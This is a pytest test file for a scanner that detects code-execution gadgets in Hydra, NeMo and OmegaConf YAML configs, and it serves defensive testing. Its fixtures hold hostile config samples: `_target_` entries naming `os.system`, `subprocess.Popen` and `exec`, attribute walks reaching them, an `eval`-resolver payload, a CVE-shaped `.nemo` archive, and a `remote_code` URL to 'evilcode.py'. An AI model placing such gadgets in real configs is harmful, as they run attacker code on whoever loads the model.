"""Hydra `_target_` and NeMo `target` in YAML configs: configs written by OmegaConf (what NeMo saves into a
`.nemo`) with NeMo and PyTorch classes are clean; a gadget is critical, and real `hydra.utils.instantiate`
proves it runs; the YAML is streamed, so aliases, damage and size never hang or raise."""

from __future__ import annotations

import io
import pickle
import subprocess
import sys
import tarfile
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from omegaconf import OmegaConf

from tests.helpers.scanning import rule_ids, scan, scan_bytes
from wscan.config import Config
from wscan.limits import Budget, Limits
from wscan.model import Location, Observation, Severity
from wscan.scanners.base import Artifact, Head, ScanContext
from wscan.scanners.config_targets import ConfigTargetScanner

# What a NeMo ASR model's model_config.yaml looks like (NeMo's own layout: the model class at the top,
# Hydra targets for its modules, an optimizer and scheduler by name), written by OmegaConf as NeMo writes it.
NEMO_CONFIG = {
    "target": "nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE",
    "sample_rate": 16000,
    "tokenizer": {"dir": "tokenizer", "type": "bpe"},
    "preprocessor": {
        "_target_": "nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor",
        "sample_rate": 16000, "normalize": "per_feature", "window_size": 0.025, "features": 80,
    },
    "spec_augment": {"_target_": "nemo.collections.asr.modules.SpectrogramAugmentation", "freq_masks": 2},
    "encoder": {"_target_": "nemo.collections.asr.modules.ConformerEncoder", "feat_in": 80, "n_layers": 2},
    "decoder": {"_target_": "nemo.collections.asr.modules.ConvASRDecoder", "feat_in": 176, "num_classes": 128},
    "optim": {"name": "adamw", "lr": 2.0, "sched": {"name": "NoamAnnealing", "warmup_steps": 1000}},
    "train_ds": {"manifest_filepath": "train.json", "batch_size": 16, "shuffle": True},
}  # fmt: skip
HYDRA_TRAINING = {
    "model": {"_target_": "torch.nn.Linear", "in_features": 4, "out_features": 2},
    "optimizer": {"_target_": "torch.optim.AdamW", "_partial_": True, "lr": 0.001},
    "scheduler": {"_target_": "torch.optim.lr_scheduler.CosineAnnealingLR", "_partial_": True, "T_max": 10},
    "callbacks": [{"_target_": "lightning.pytorch.callbacks.ModelCheckpoint", "save_top_k": 1},
                  {"_target_": "pytorch_lightning.callbacks.EarlyStopping", "monitor": "val_loss"}],
    "data": {"_target_": "torch.utils.data.DataLoader", "batch_size": 8},
}  # fmt: skip


def omegaconf_yaml(config: dict[str, object]) -> bytes:
    return OmegaConf.to_yaml(OmegaConf.create(config)).encode()


def nemo_archive(config: bytes, weights: bytes | None = None) -> bytes:
    """A `.nemo` file: a tar of model_config.yaml and the weights (by default a torch state dict), as NeMo
    packs it. Tar headers carry no time or owner, so the bytes are reproducible for given weights."""
    if weights is None:
        import torch

        saved = io.BytesIO()
        torch.save({"encoder.weight": torch.zeros(2, 2)}, saved)
        weights = saved.getvalue()
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in (("./model_config.yaml", config), ("./model_weights.ckpt", weights)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def hostile_nemo() -> bytes:
    """A `.nemo` whose model config builds `os.system` for its encoder (CVE-2025-23304's shape)."""
    hostile = dict(NEMO_CONFIG, encoder={"_target_": "os.system", "command": "echo wscan-corpus-payload"})
    return nemo_archive(omegaconf_yaml(hostile), weights=pickle.dumps({"encoder.weight": [0.0]}, protocol=2))


def observe(text: bytes, name: str = "model_config.yaml", limits: Limits | None = None) -> list[Observation]:
    limits = limits or Limits()
    artifact = Artifact(Location(name), len(text), lambda: io.BytesIO(text), name=name)
    scanned = ConfigTargetScanner().scan(artifact, ScanContext(limits, Budget(limits)))
    return [o for o in scanned if isinstance(o, Observation)]


# --- benign ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("config", [NEMO_CONFIG, HYDRA_TRAINING], ids=["nemo", "hydra-training"])
def test_configs_of_nemo_and_pytorch_classes_are_clean(tmp_path: Path, config: dict[str, object]) -> None:
    report = scan_bytes(tmp_path, omegaconf_yaml(config), "model_config.yaml")
    assert report.findings == []
    assert report.files[0].formats == ("config-targets",)


def test_every_target_is_seen_with_where_it_sits() -> None:
    found = {(o.attrs["key"], o.attrs["path"], o.attrs["callable"])
             for o in observe(omegaconf_yaml(HYDRA_TRAINING)) if o.kind == "config.target"}  # fmt: skip
    assert found == {
        ("_target_", "model", "torch.nn.Linear"),
        ("_target_", "optimizer", "torch.optim.AdamW"),
        ("_target_", "scheduler", "torch.optim.lr_scheduler.CosineAnnealingLR"),
        ("_target_", "callbacks.[]", "lightning.pytorch.callbacks.ModelCheckpoint"),
        ("_target_", "callbacks.[]", "pytorch_lightning.callbacks.EarlyStopping"),
        ("_target_", "data", "torch.utils.data.DataLoader"),
    }
    nemo = {(o.attrs["key"], o.attrs["path"])
            for o in observe(omegaconf_yaml(NEMO_CONFIG)) if o.kind == "config.target"}  # fmt: skip
    assert ("target", "(top)") in nemo and ("_target_", "encoder") in nemo


def test_a_nemo_archive_is_read_through_its_tar(tmp_path: Path) -> None:
    clean = scan_bytes(tmp_path / "a", nemo_archive(omegaconf_yaml(NEMO_CONFIG)), "asr.nemo")
    assert clean.findings == []
    report = scan_bytes(tmp_path / "b", hostile_nemo(), "asr.nemo")
    assert [(f.rule_id, f.location.member) for f in report.findings] == [("WS-CFG-001", "./model_config.yaml")]


def test_other_yaml_and_text_are_not_configs(tmp_path: Path) -> None:
    files = {
        "workflow.yml": b"on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n",
        "README.md": b"# Model\n\nBuild it with:\n\n```yaml\n_target_: torch.nn.Linear\nin: {\n```\n",
        "train.py": b'config = {\n"_target_": "torch.optim.Adam",\n  "lr": [1, 2\n',
        "broken.yml": b"key: [unclosed\n",  # not a config: no target in it
        "notes.txt": b"target: a note about targets, not a config\n",
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    report = scan(tmp_path)
    assert report.findings == [], [f.message for f in report.findings]


# --- hostile --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "rule", "callable_"),
    [
        (b"_target_: os.system\ncommand: id\n", "WS-CFG-001", "os.system"),
        (b"model:\n  _target_: builtins.exec\n  _args_: ['import os']\n", "WS-CFG-001", "builtins.exec"),
        (b"target: subprocess.Popen\nargs: [[sh]]\n", "WS-CFG-001", "subprocess.Popen"),  # NeMo's model class key
        (b"cb:\n  - {_target_: 'os.system', command: id}\n", "WS-CFG-001", "os.system"),  # flow style, quoted
        (b"x: &g os.system\nrun:\n  _target_: *g\n", "WS-CFG-001", "os.system"),  # through an alias
        (b"'_target_': \"posix.system\"\n", "WS-CFG-001", "posix.system"),
        (b"model:\n  _target_: mylib.models.Net\n", "WS-CFG-002", "mylib.models.Net"),
        (b"target: mylib.models.Net\n", "WS-CFG-002", "mylib.models.Net"),
        (b"model:\n  _target_: ${oc.env:MODEL_CLASS}\n", "WS-CFG-003", "${oc.env:MODEL_CLASS}"),
        (b"a:\n  _target_: torch.nn.Linear\n  b: [unclosed\n", "WS-CFG-004", None),
        (b"_target_: os.system\n\xff\xfe\n", "WS-CFG-004", None),
    ],
)
def test_each_hostile_config_trips_its_rule(tmp_path: Path, text: bytes, rule: str, callable_: str | None) -> None:
    report = scan_bytes(tmp_path, text, "config.yaml")
    assert rule_ids(report) == {rule}, [f.message for f in report.findings]
    if callable_ is not None:
        assert report.findings[0].evidence["callable"] == callable_


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"target: production\nloss:\n  target: 3\n", set()),  # not dotted names: no class
        (b"model:\n  target: subprocess.Popen\n", {"WS-CFG-001"}),  # NeMo reads the model: section's target
        (b"defaults_: &d {target: subprocess.Popen}\n<<: *d\n", {"WS-CFG-001"}),  # lifted by a merge key
    ],
)
def test_nemo_targets_are_read_wherever_nemo_reads_them(tmp_path: Path, text: bytes, expected: set[str]) -> None:
    assert rule_ids(scan_bytes(tmp_path, text, "model_config.yaml")) == expected


@pytest.mark.parametrize(
    ("target", "rule"),
    [
        ("omegaconf._utils.os.makedirs", "WS-CFG-007"),  # Hydra walks attributes: this is os.makedirs
        ("torch.utils.data.dataloader.os.makedirs", "WS-CFG-007"),
        ("torch.nn.modules.module.torch.load", "WS-CFG-007"),
        ("builtins.len.__self__.exec", "WS-CFG-010"),
        ("torch.utils.data.datapipes.utils.decoder.basichandlers", "WS-CFG-001"),  # unpickles its data
        ("omegaconf.OmegaConf.save", "WS-CFG-001"),  # writes any text to any file
        ("hydra.utils.instantiate", "WS-CFG-001"),  # builds whatever its arguments name
        ("nemo.collections.asr.models.EncDecCTCModel.from_pretrained", "WS-CFG-020"),  # instantiates the .nemo's config
    ],
)
def test_gadgets_behind_allowed_names_are_flagged(tmp_path: Path, target: str, rule: str) -> None:
    report = scan_bytes(tmp_path, f"model:\n  _target_: {target}\n".encode(), "config.yaml")
    assert rule in rule_ids(report) and max(f.severity for f in report.findings) >= Severity.HIGH, report.findings


# Targets from real configs that a sweep of real-world files found flagged critical: each tail of the name was
# judged as a standard module (`io`, `signal`, `profile`), or the name was in a dangerous module although the
# pickle rules know it as harmless (a Path holds parts; a partial stores a callable that is judged by itself).
REAL_TARGETS = {
    "nemo.lightning.io.pl.MegatronCheckpointIO": "NeMo 2's checkpoint IO (nemo/lightning/io is NeMo's package)",
    "scipy.signal.windows.hann": "a window function (scipy.signal, not the standard signal)",
    "torch.profiler.profile": "PyTorch's profiler class: `profile` alone is a module, and a module is not callable",
    "pathlib.Path": "a path; its methods stay dangerous",
    "functools.partial": "stores a callable, judged where it is named",
}


@pytest.mark.parametrize("target", REAL_TARGETS, ids=list(REAL_TARGETS))
def test_real_targets_inside_other_libraries_are_not_gadgets(tmp_path: Path, target: str) -> None:
    report = scan_bytes(tmp_path, f"trainer:\n  _target_: {target}\n".encode(), "config.yaml")
    assert all(f.severity < Severity.HIGH for f in report.findings), [f.message for f in report.findings]


@pytest.mark.parametrize(
    ("target", "key"),
    [
        ("nemo.lightning.io.open", "_target_"),  # io.open: a member of the real io
        ("scipy.signal.windows.signal.pthread_kill", "_target_"),
        ("torch.profiler.profile.run", "_target_"),  # profile.run execs its string
        ("nemo.utils.os.path.os.system", "_target_"),
        ("mylib.sqlite3.connect", "_target_"),  # a module this interpreter cannot list: judged whole
        ("mylib.logging.config.fileConfig", "_target_"),  # a two-part dangerous module: judged whole
        ("speechbrain.utils.os", "!name"),  # binds the module: `!ref <name.system>` then reaches os.system
        ("torch.nn.modules.module.pathlib.Path.write_text", "_target_"),  # a Path method is not the Path
    ],
)
def test_walks_into_real_members_of_dangerous_modules_stay_critical(tmp_path: Path, target: str, key: str) -> None:
    text = f"model:\n  _target_: {target}\n" if key == "_target_" else f"model: {key}:{target}\n"
    report = scan_bytes(tmp_path, text.encode(), "hyperparams.yaml")
    assert "WS-CFG-007" in rule_ids(report), [f.message for f in report.findings]


def test_a_called_module_is_not_judged_as_its_name(tmp_path: Path) -> None:
    """`_target_: torch.os` would be the os module, which Hydra refuses to call: no walk finding; the name
    outside the libraries configs build from is still medium."""
    report = scan_bytes(tmp_path, b"model:\n  _target_: torch.os\n", "config.yaml")
    assert rule_ids(report) == {"WS-CFG-002"}
    code = "import sys; from hydra.utils import instantiate; from omegaconf import OmegaConf; " \
           "instantiate(OmegaConf.create({'_target_': 'torch.os'}))"  # fmt: skip
    refused = subprocess.run([sys.executable, "-c", code], timeout=120, capture_output=True, text=True)
    assert refused.returncode != 0 and "Expected a callable target" in refused.stderr


def test_stdlib_member_lists_hold_every_real_member() -> None:
    """The generated lists (tools/gen_stdlib_members.py) may only leave a tail unjudged when the standard
    module has no such member: every name this interpreter's module holds must be listed."""
    import importlib
    import pkgutil

    from wscan.rules import builtin_packs

    lists = {name: set(values) for _, pack in builtin_packs() for name, values in pack.get("lists", {}).items()}
    members = lists["stdlib-module-members"]
    assert len(lists["member-listed-modules"]) > 80
    for name in lists["member-listed-modules"]:
        module = importlib.import_module(name)
        real = {*dir(module), *(i.name for p in getattr(module, "__path__", []) for i in pkgutil.iter_modules([p]))}
        # A dunder that appears at run time (`__warningregistry__`) need not be listed: a walk through a dunder is
        # WS-CFG-010 (high) whatever the module.
        missing = {f"{name}.{m}" for m in real if not m.startswith("__")} - members
        assert not missing, missing


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # quadra's datamodule configs: Hydra's getter returns the class its path names.
        ("_target_: hydra.utils.get_method\npath: quadra.datasets.ClassificationDataset\n", {"WS-CFG-002"}),
        ("_target_: hydra.utils.get_method\npath: os.system\n", {"WS-CFG-001"}),
        ("_target_: hydra.utils.get_object\n_args_: [subprocess.Popen]\n", {"WS-CFG-001"}),
        ("path: os.system\n_target_: hydra.utils.get_class\n", {"WS-CFG-001"}),  # in any order
        ("_target_: hydra.utils.get_method\npath: torch.nn.modules.module.os.system\n", {"WS-CFG-007", "WS-CFG-009"}),
        ("_target_: hydra.utils.get_method\npath: ${oc.env:X}\n", {"WS-CFG-003"}),
        ("_target_: hydra.utils.instantiate\nconfig: {}\n", {"WS-CFG-001"}),  # the rest of hydra.utils stays
        # Hydra projects build hub models this way (genrl, espnet3, trident): a model fetched, no code run.
        ("_target_: transformers.AutoModelForCausalLM.from_pretrained\n"
         "pretrained_model_name_or_path: Qwen/Qwen2.5-0.5B-Instruct\n", {"WS-CFG-017"}),
        ("_target_: transformers.AutoModel.from_pretrained\npretrained_model_name_or_path: x/y\n"
         "trust_remote_code: true\n", {"WS-CFG-017", "WS-CFG-018"}),
        ("_target_: diffusers.DiffusionPipeline.from_pretrained\ncustom_pipeline: x/pipe\n",
         {"WS-CFG-017", "WS-CFG-018"}),
        ("_target_: transformers.AutoModel.from_pretrained\ntrust_remote_code: ${oc.env:T}\n",
         {"WS-CFG-017", "WS-CFG-018"}),
        ("_target_: transformers.AutoModel.from_pretrained\ntrust_remote_code: False\n", {"WS-CFG-017"}),
        ("_target_: nemo.collections.asr.models.ASRModel.restore_from\n", {"WS-CFG-008"}),
        # torchtune's config.instantiate reads `_component_` as Hydra reads `_target_`.
        ("model:\n  _component_: os.system\n  command: id\n", {"WS-CFG-001"}),
        ("model:\n  _component_: torchtune.models.llama3_2.llama3_2_1b\n", set()),
        ("model:\n  _component_: mylib.models.Net\n", {"WS-CFG-002"}),
    ],
)  # fmt: skip
def test_what_a_target_does_depends_on_its_mapping(tmp_path: Path, text: str, expected: set[str]) -> None:
    assert rule_ids(scan_bytes(tmp_path, text.encode(), "config.yaml")) == expected


# A review of the relaxed rules proved each of these with the real loader (Hydra 1.3.2/1.3.8, HyperPyYAML,
# transformers, sentence-transformers, Lightning) and a marker; wscan had reported medium or nothing.
RELAXED_REVIEW = {
    "library-multiprocessing-package": (
        "h:\n  _target_: torch.distributed.elastic.multiprocessing.subprocess_handler.SubprocessHandler\n"
        "  entrypoint: /bin/sh\n", "WS-CFG-001"),
    "virtualenv-subprocess": ("h:\n  _target_: virtualenv.util.subprocess.run_cmd\n  cmd: [touch, x]\n", "WS-CFG-001"),
    "lightning-checkpoint-io": ("c:\n  _target_: lightning.pytorch.plugins.io.TorchCheckpointIO.load_checkpoint\n"
                                "  path: http://x/m.ckpt\n  weights_only: false\n", "WS-CFG-008"),
    "lightning-pl-load": ("c:\n  _target_: lightning.pytorch.core.saving.pl_load\n  path_or_url: http://x\n",
                          "WS-CFG-008"),
    "pandas-io-api": ("d:\n  _target_: pandas.io.api.read_pickle\n  filepath_or_buffer: x.pkl\n", "WS-CFG-001"),
    "private-os-alias": ("r: !apply:random._os.spawnlp [0, touch, touch, /tmp/m]\n", "WS-CFG-007"),
    # (on the dangerous list since helper 244 ran it from a joblib file)
    "exec-underscore": ("r: !apply:mpmath.libmp.backend.exec_ ['import os']\n", "WS-CFG-001"),
    "getter-path-by-alias": ("cmd: &cmd subprocess.call\nf:\n  _target_: functools.partial\n  _args_:\n"
                             "    - _target_: hydra.utils.get_method\n      _args_: [*cmd]\n", "WS-CFG-001"),
    "getter-path-by-merge-key": ("base: &base {path: subprocess.call}\nf:\n  _target_: functools.partial\n"
                                 "  _args_:\n    - {<<: *base, _target_: hydra.utils.get_method}\n", "WS-CFG-003"),
    "remote-code-by-merge-key": ("hub: &hub\n  trust_remote_code: true\nc:\n  <<: *hub\n"
                                 "  _target_: transformers.AutoConfig.from_pretrained\n", "WS-CFG-018"),
    "remote-code-in-nested-kwargs": ("e:\n  _target_: sentence_transformers.SentenceTransformer\n"
                                     "  config_kwargs:\n    trust_remote_code: true\n", "WS-CFG-018"),
    "remote-code-on-a-tag": ("config: !apply:transformers.AutoConfig.from_pretrained\n"
                             "  pretrained_model_name_or_path: x\n  trust_remote_code: true\n", "WS-CFG-018"),
    "applyref-result-re-read": ("layers: !applyref:str.replace ['(??python/object/apply:os.system [id])', '??', "
                                "'!!']\n", "WS-CFG-003"),
    "escaped-interpolation": ('model:\n  name: "\\x24{eval:\'1\'}"\n', "WS-CFG-011"),
    "continued-interpolation": ('model:\n  name: "$\\\n    {eval:\'1\'}"\n', "WS-CFG-011"),
}  # fmt: skip


@pytest.mark.parametrize("case", list(RELAXED_REVIEW))
def test_shapes_a_review_of_the_relaxed_rules_proved(tmp_path: Path, case: str) -> None:
    text, rule = RELAXED_REVIEW[case]
    name = "hyperparams.yaml" if "!apply" in text else "config.yaml"
    report = scan_bytes(tmp_path, text.encode(), name)
    assert rule in rule_ids(report), [f.message for f in report.findings]
    assert max(f.severity for f in report.findings) >= Severity.HIGH


def test_remote_code_is_only_judged_in_a_config_that_names_targets(tmp_path: Path) -> None:
    """An axolotl-style training config sets trust_remote_code for its own loader: no targets, no finding."""
    text = b"base_model: Qwen/Qwen2.5-0.5B\ntrust_remote_code: true\nsequence_len: 2048\n"
    assert rule_ids(scan_bytes(tmp_path, text, "config.yaml")) == set()


def test_hydra_getter_returns_what_its_path_names(tmp_path: Path) -> None:
    """The real Hydra: instantiating the getter imports what `path` names and hands it back to the program, so
    that name is the target wscan reports (Hydra 1.3.8 itself refuses os.system there)."""
    config = tmp_path / "config.yaml"
    config.write_text("_target_: hydra.utils.get_class\npath: json.JSONDecoder\n")
    code = "import json, sys; from hydra.utils import instantiate; from omegaconf import OmegaConf; " \
           "assert instantiate(OmegaConf.load(sys.argv[1])) is json.JSONDecoder"  # fmt: skip
    subprocess.run([sys.executable, "-c", code, str(config)], check=True, timeout=120, capture_output=True)
    assert [f.evidence["callable"] for f in scan(config).findings] == ["json.JSONDecoder"]


def test_a_config_can_allow_its_own_library(tmp_path: Path) -> None:
    path = tmp_path / "config.yaml"
    path.write_bytes(b"model:\n  _target_: mylib.models.Net\nbad:\n  _target_: os.system\n")
    allowed = scan(path, Config(allow=frozenset({"mylib.models.Net", "os.system"})))
    assert [(f.rule_id, f.severity) for f in allowed.findings] == [("WS-CFG-001", Severity.CRITICAL)]


FLOW = "{{_target_: {target}, name: {marker}}}\n"  # a YAML flow mapping: OmegaConf.load reads any file name
COMPACT_JSON = '{{"_target_": "{target}", "name": "{marker}"}}'


@pytest.mark.parametrize(
    ("target", "rule", "name", "layout"),
    [
        ("os.makedirs", "WS-CFG-001", "model_config.yaml", "model:\n  _target_: {target}\n  name: {marker}\n"),
        ("omegaconf._utils.os.makedirs", "WS-CFG-007", "model_config.yaml",
         "model:\n  _target_: {target}\n  name: {marker}\n"),
        ("os.makedirs", "WS-CFG-001", "hparams.json", COMPACT_JSON),
        ("os.makedirs", "WS-CFG-001", "model.conf", FLOW),
        # torch.fx rebuilds modules by exec-ing source; a walk from an allowlisted prefix reaches it.
        ("torch.nn.modules.module.torch.fx.graph_module._exec_with_source", "WS-CFG-007", "model.yaml",
         "_target_: {target}\n_convert_: all\nsrc: 'import os; os.makedirs(\"{marker}\")'\nglobals: {{}}\n"),
    ],
    ids=["yaml", "walk", "compact-json", "flow-conf", "fx-walk"],
)  # fmt: skip
def test_hydra_runs_what_wscan_flags(tmp_path: Path, target: str, rule: str, name: str, layout: str) -> None:
    """Differential, with the real loader in a child process: instantiating the config creates the marker
    folder, and wscan reports the callable that did it as critical."""
    marker = tmp_path / "instantiated-marker"
    config = tmp_path / name
    config.write_text(layout.format(target=target, marker=marker), encoding="utf-8")
    code = "import sys; from hydra.utils import instantiate; from omegaconf import OmegaConf; " \
           "instantiate(OmegaConf.load(sys.argv[1]))"  # fmt: skip
    subprocess.run([sys.executable, "-c", code, str(config)], check=True, timeout=120, capture_output=True)
    assert marker.is_dir()
    report = scan(config)
    assert [(f.rule_id, f.severity) for f in report.findings] == [(rule, Severity.CRITICAL)]


# --- bounds ---------------------------------------------------------------------------------------------------


def test_a_billion_laughs_config_is_read_as_written() -> None:
    lines = ["a0: &a0 [_target_, os.system]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)]
    text = ("\n".join(lines) + "\nrun:\n  _target_: torch.nn.Linear\n").encode()
    started = time.monotonic()
    found = observe(text)
    assert time.monotonic() - started < 5
    assert [o.attrs["callable"] for o in found if o.kind == "config.target"] == ["torch.nn.Linear"]


def test_deep_configs_keep_short_paths() -> None:
    """Paths are built when a target is reported, from a few steps, not kept whole at every level (a 100 KB
    key repeated 60 levels deep took gigabytes)."""
    key = "k" * 100_000
    text = f"a: &k {key}\n" + "".join(f"{'  ' * i}*k :\n" for i in range(60)) + "  " * 60 + "_target_: os.system\n"
    started = time.monotonic()
    found = [o for o in observe(text.encode()) if o.kind == "config.target"]
    assert time.monotonic() - started < 10
    assert [o.attrs["callable"] for o in found] == ["os.system"] and len(str(found[0].attrs["path"])) <= 300


def test_size_and_time_limits(tmp_path: Path) -> None:
    big = scan_bytes(tmp_path / "a", b"_target_: torch.nn.Linear\n" + b"# pad\n" * 100, "c.yaml",
                     Config(limits=Limits(max_json_bytes=200)))  # fmt: skip
    assert rule_ids(big) == {"WS-CFG-005"}
    many = b"".join(b"k%d:\n  _target_: torch.nn.Linear\n" % i for i in range(300_000))
    slow = scan_bytes(tmp_path / "b", many, "c.yaml", Config(limits=Limits(max_seconds_per_file=0.2)))
    assert [(f.rule_id, f.evidence.get("limit")) for f in slow.findings] == [("WS-FILE-002", "max-seconds-per-file")]


def test_more_targets_than_listed_are_counted() -> None:
    text = b"".join(b"k%d:\n  _target_: torch.nn.Linear%d\n" % (i, i) for i in range(1003))
    found = observe(text)
    assert len([o for o in found if o.kind == "config.target"]) == 1000
    assert [o.attrs["count"] for o in found if o.kind == "config.more_targets"] == [3]
    repeated = observe(b"".join(b"k%d:\n  _target_: torch.nn.Linear\n" % i for i in range(1003)))
    assert len([o for o in repeated if o.kind == "config.target"]) == 1  # one name, judged once
    assert not [o for o in repeated if o.kind == "config.more_targets"]


def test_sniffed_by_name_or_by_a_target_key() -> None:
    scanner = ConfigTargetScanner()
    assert scanner.accepts(Head(b"a: 1\n", b"", 5, "m/config.YAML"))
    assert scanner.accepts(Head(b"x: 1\n  - _target_: a.b\n", b"", 20, "m/hparams"))
    assert not scanner.accepts(Head(b"a: 1\n", b"", 5, "m/config.json"))
    assert not scanner.accepts(Head(b"_target_: a\x00", b"", 12, "m/blob"))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_damaged_configs_never_raise(data: st.DataObject) -> None:
    sample = bytearray(omegaconf_yaml(NEMO_CONFIG) + b"x: &r [*r]\ny: !!python/object:os.system {}\n")
    for _ in range(data.draw(st.integers(0, 8))):
        sample[data.draw(st.integers(0, len(sample) - 1))] = data.draw(st.sampled_from(b"{}[]&*!:-'\"\n \t#|>"))
    found = observe(bytes(sample[: data.draw(st.integers(0, len(sample)))]))
    assert all(o.kind.startswith("config.") for o in found)


def test_a_resolver_that_runs_code_is_flagged_and_runs(tmp_path: Path) -> None:
    """OmegaConf calls the resolver the program registered under the interpolation's name: with the common
    `eval` resolver, the config runs Python when it is resolved."""
    marker = tmp_path / "resolved"
    text = f'model:\n  lr: 0.1\n  hidden: ${{eval:\'__import__("pathlib").Path("{marker}").touch() or 4\'}}\n'
    path = tmp_path / "config.yaml"
    path.write_text(text)
    resolve = (
        "import sys\nfrom omegaconf import OmegaConf\nOmegaConf.register_new_resolver('eval', eval)\n"
        "OmegaConf.to_container(OmegaConf.load(sys.argv[1]), resolve=True)\n"
    )
    subprocess.run([sys.executable, "-I", "-c", resolve, str(path)], check=True, timeout=60)
    assert marker.exists()
    found = [(f.rule_id, f.severity) for f in scan(path).findings]
    assert found == [("WS-CFG-011", Severity.HIGH)]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("${mine:4}", {"WS-CFG-012"}),  # the program defines it: medium
        ("${eval:-__import__('os').system('id')}", {"WS-CFG-011"}),  # a call, although it reads like a default
        ("${eval:-1}", set()),  # a call too, of one plain word: evaluated or run, it does nothing
        ("${python:-python3}", set()),  # a docker-compose default
        ("${cmd:-${payload}}", {"WS-CFG-011"}),  # not one plain word: another value is spliced into the call
        ("${now:%Y-%m-%d_%H-%M-%S}", set()),  # Hydra's own
        ("${oc.env:HOME,/tmp}", set()),
        ("${hydra:runtime.cwd}/outputs", set()),
        ("${model.lr}", set()),  # a node reference, no resolver
        ("${HOME:-/root}", set()),  # shell and compose syntax
        ("${${name}:1}", {"WS-CFG-011"}),  # the resolver's name is computed when the value resolves
        ("${oc.decode:${oc.env:X}}", {"WS-CFG-012"}),  # re-parses its argument as config: anything can come of it
    ],
)
def test_resolvers_are_judged_by_name(tmp_path: Path, value: str, expected: set[str]) -> None:
    report = scan_bytes(tmp_path, f"model:\n  lr: 0.1\n  value: {value}\n".encode(), "config.yaml")
    assert rule_ids(report) == expected


def test_a_plain_default_never_hides_a_call_of_the_same_resolver(tmp_path: Path) -> None:
    text = "a: ${eval:-python3}\nb: ${eval:-${code}}\n"
    report = scan_bytes(tmp_path, text.encode(), "config.yaml")
    assert [(f.rule_id, f.evidence["line"]) for f in report.findings] == [("WS-CFG-011", 2)]


@pytest.mark.parametrize(("default", "runs"), [("python3", False), ("${code}", True)])
def test_a_shell_default_runs_under_eval_only_when_it_is_code(tmp_path: Path, default: str, runs: bool) -> None:
    """With the common `eval` resolver, `${eval:-X}` evaluates `-X`: a plain word raises; OmegaConf takes no
    parenthesis there unquoted, but splices in another value, which can be code."""
    marker = tmp_path / "resolved"
    path = tmp_path / "config.yaml"
    path.write_text(f"code: \"__import__('pathlib').Path('{marker}').touch()\"\nvalue: ${{eval:-{default}}}\n")
    resolve = (
        "import sys\nfrom omegaconf import OmegaConf\nOmegaConf.register_new_resolver('eval', eval)\n"
        "try:\n    OmegaConf.to_container(OmegaConf.load(sys.argv[1]), resolve=True)\nexcept Exception: pass\n"
    )
    subprocess.run([sys.executable, "-I", "-c", resolve, str(path)], check=True, timeout=60)
    assert marker.exists() is runs
    assert ("WS-CFG-011" in rule_ids(scan(path))) is runs


REAL_CODE = Path(__file__).resolve().parents[1] / "data" / "real_code"


@pytest.mark.parametrize("name", ["speechbrain_data_pipeline.py", "speechbrain_hparams.py"])
def test_python_files_quoting_hyperpyyaml_are_code_not_configs(tmp_path: Path, name: str) -> None:
    """speechbrain's own modules show HyperPyYAML in doctests (`!new:`, `!name:operator.add`): imported, never
    read as YAML, so they are code (read by the Python scanner), not configs with calling tags."""
    source = (REAL_CODE / f"{name}.txt").read_bytes()
    assert b"!name:" in source or b"!new:" in source or b"!ref" in source
    report = scan_bytes(tmp_path, source, name.removeprefix("speechbrain_"))
    assert report.files[0].formats == ("python",)
    assert not [f for f in report.findings if f.rule_id.startswith("WS-CFG")], [f.message for f in report.findings]


def test_a_python_named_file_python_cannot_parse_is_still_a_config(tmp_path: Path) -> None:
    """Only text that Python parses is left to the code scanner: YAML with a calling tag under a .py name (which no
    import runs, but a loader given the name reads) is judged as a config."""
    report = scan_bytes(tmp_path, b"model: !new:os.system\n  - id\n", "hyperparams.py")
    assert "config-targets" in report.files[0].formats
    assert any(f.severity == Severity.CRITICAL and f.rule_id.startswith("WS-CFG") for f in report.findings)


FUNASR_POLYGLOT = (b'model: "Paraformer"\ntrust_remote_code: True\nremote_code: "http://127.0.0.1:8765/evilcode.py"\n'
                   b'_target_: "funasr.auto.auto_model.AutoModel"\n')  # fmt: skip


def test_a_python_file_yaml_also_reads_is_still_a_config(tmp_path: Path) -> None:
    """Review 22: FunASR reads the file its configuration.json names with OmegaConf.load, whatever it is called, and
    `key: "value"` lines are Python's annotated assignments too: its `config.py` turned on remote code, which FunASR
    1.4.16 downloaded and ran. Only a .py that YAML cannot read is left to the code scanner."""
    import ast

    import yaml

    ast.parse(FUNASR_POLYGLOT)
    assert yaml.safe_load(FUNASR_POLYGLOT)["trust_remote_code"] is True
    report = scan_bytes(tmp_path, FUNASR_POLYGLOT, "config.py")
    assert "config-targets" in report.files[0].formats
    assert "WS-CFG-018" in rule_ids(report)


def test_more_distinct_yaml_targets_than_judged_is_high(tmp_path: Path) -> None:
    """Review 23: 1,000 harmless targets, then a gadget: repeats are judged once; distinct ones past the cap are
    WS-CFG-006 (high), since the rest go unjudged."""
    same = "".join(f"l{i}:\n  _target_: torch.nn.Linear\n" for i in range(1000)) + "g:\n  _target_: os.makedirs\n"
    assert "WS-CFG-001" in rule_ids(scan_bytes(tmp_path / "a", same.encode(), "config.yaml"))
    distinct = "".join(f"l{i}:\n  _target_: torch.nn.L{i}\n" for i in range(1000)) + "g:\n  _target_: os.makedirs\n"
    assert "WS-CFG-006" in rule_ids(scan_bytes(tmp_path / "b", distinct.encode(), "config.yaml"))


# Review 61: Lightning's CSVLogger writes a tensor hyperparameter into hparams.yaml with yaml.dump, as
# `!!python/object/apply:torch.storage._load_from_bytes [!!binary <a legacy torch.save>]`; yaml.unsafe_load calls
# it, and torch.load (weights_only off) reads those bytes. They are scanned as a torch file of their own.
